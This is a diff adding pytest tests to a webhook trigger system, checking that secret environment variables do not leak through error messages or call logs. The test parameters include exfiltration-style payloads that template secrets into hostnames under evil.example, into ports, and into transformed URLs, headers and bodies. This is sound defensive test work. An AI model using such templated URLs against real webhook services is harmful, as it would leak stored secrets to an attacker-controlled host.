@@ -63,6 +63,79 @@ def test_a_variable_that_is_bound_elsewhere_is_not_sent(
     assert SECRET not in str([row.request, row.response, event.reason])
 
 
+@pytest.mark.parametrize(
+    "address",
+    [
+        "https://{{HOOK_SHOP}}.evil.example/",
+        "https://{{HOOK_PIN}}.evil.example/{{HOOK_SHOP}}",
+        "https://shop.example:{{HOOK_PIN}}/",
+        "https://shop.example:1{{HOOK_PIN}}/",
+    ],
+)
+def test_no_error_tells_what_a_variable_holds(
+    address: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Whoever may edit a trigger could read them by putting them into the host or the port."""
+    monkeypatch.setenv("HOOK_PIN", "4711")
+    with pytest.raises(InvalidTrigger) as refusal:
+        triggers.create_cron_trigger("sly", webhook=address, schedule="0 3 * * *")
+    assert SECRET not in str(refusal.value)
+    assert "4711" not in str(refusal.value)
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://{{ base_url | last }}.evil.example/",
+        "https://{{ base_url | last | upper }}.evil.example/",
+        "https://shop.example:{{ base_url | last }}/",
+    ],
+)
+def test_no_log_of_a_call_tells_what_a_variable_holds(
+    make_event: MakeEvent,
+    allow_loopback: dict[str, Any],
+    monkeypatch: pytest.MonkeyPatch,
+    url: str,
+) -> None:
+    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=shop.example"]
+    allow_loopback["OUTGOING_PORTS"] = [80, 443]
+    monkeypatch.setenv("HOOK_SHOP", "9")
+    event = make_event(webhook="https://shop.example/{{HOOK_SHOP}}", request_transform={"url": url})
+    event = deliver(event)
+    assert event.status == "error"
+    [row] = invocations(event)
+    assert "9" not in str([row.response["data"], event.reason])
+
+
+@pytest.mark.parametrize(
+    "transform",
+    [
+        {"body": {"action": "transform", "template": '{"a": {{ base_url | upper }} }'}},
+        {"url": "{{ base_url }}?{{ base_url | upper | urlencode }}"},
+        {"query_params": {"a": "{{ base_url | upper }}"}},
+        {"request_headers": {"add_headers": {"X-A": "{{ base_url | upper }}"}}},
+        {"query_params": {"a": "{{ base_url | truncate(36) }}"}},  # all but the last letters
+    ],
+)
+def test_no_log_shows_what_a_transform_made_of_a_variable(
+    make_event: MakeEvent,
+    receiver: Receiver,
+    allow_loopback: dict[str, Any],
+    monkeypatch: pytest.MonkeyPatch,
+    transform: dict[str, Any],
+) -> None:
+    """The receiver may have it; whoever edits and looks at triggers may not."""
+    monkeypatch.setenv("HOOK_SHOP", "tK8s0meSecretWord99")
+    allow_loopback["TRIGGER_ENV_HOSTS"] = ["HOOK_SHOP=127.0.0.1"]
+    event = make_event(
+        webhook=receiver.url + "/{{HOOK_SHOP}}", request_transform={"version": "2", **transform}
+    )
+    deliver(event)
+    assert len(receiver.received) == 1
+    [row] = invocations(event)
+    assert "tk8s0me" not in str([row.request, row.response]).lower()
+
+
 def test_a_transform_sends_no_variable_to_another_host(
     make_event: MakeEvent, receiver: Receiver, allow_loopback: dict[str, Any]
 ) -> None:
@@ -124,10 +197,10 @@ def test_hosts_are_whole_names_or_all_below_one(
     settings.BELLRINGER = {**settings.BELLRINGER, "TRIGGER_ENV_HOSTS": [entry]}
     url = f"https://{host}/hook"
     if is_bound:
-        check_bound(["HOOK_SHOP"], url)
+        check_bound(["HOOK_SHOP"], url, shows_host=True)
     else:
         with pytest.raises(NotBound):
-            check_bound(["HOOK_SHOP"], url)
+            check_bound(["HOOK_SHOP"], url, shows_host=True)
 
 
 @pytest.mark.parametrize("entry", ["HOOK_SHOP", "=x", "A=", "A=*", "A=https://x", "A=x/y", "1=x"])
